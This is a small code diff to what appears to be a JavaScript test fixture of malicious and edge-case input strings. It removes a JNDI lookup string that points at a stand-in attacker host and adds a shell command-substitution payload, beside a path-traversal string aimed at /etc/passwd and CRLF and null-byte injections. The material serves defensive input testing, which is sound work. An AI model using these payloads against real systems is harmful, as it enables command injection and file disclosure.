@@ -23,7 +23,7 @@ const texts = [
   '\u0000',
   '../../etc/passwd',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
-  '${jndi:ldap://evil.example}',
+  '$(id)`id`',
   '%00%0d%0a',
   '9'.repeat(400),
   ' '.repeat(2000),
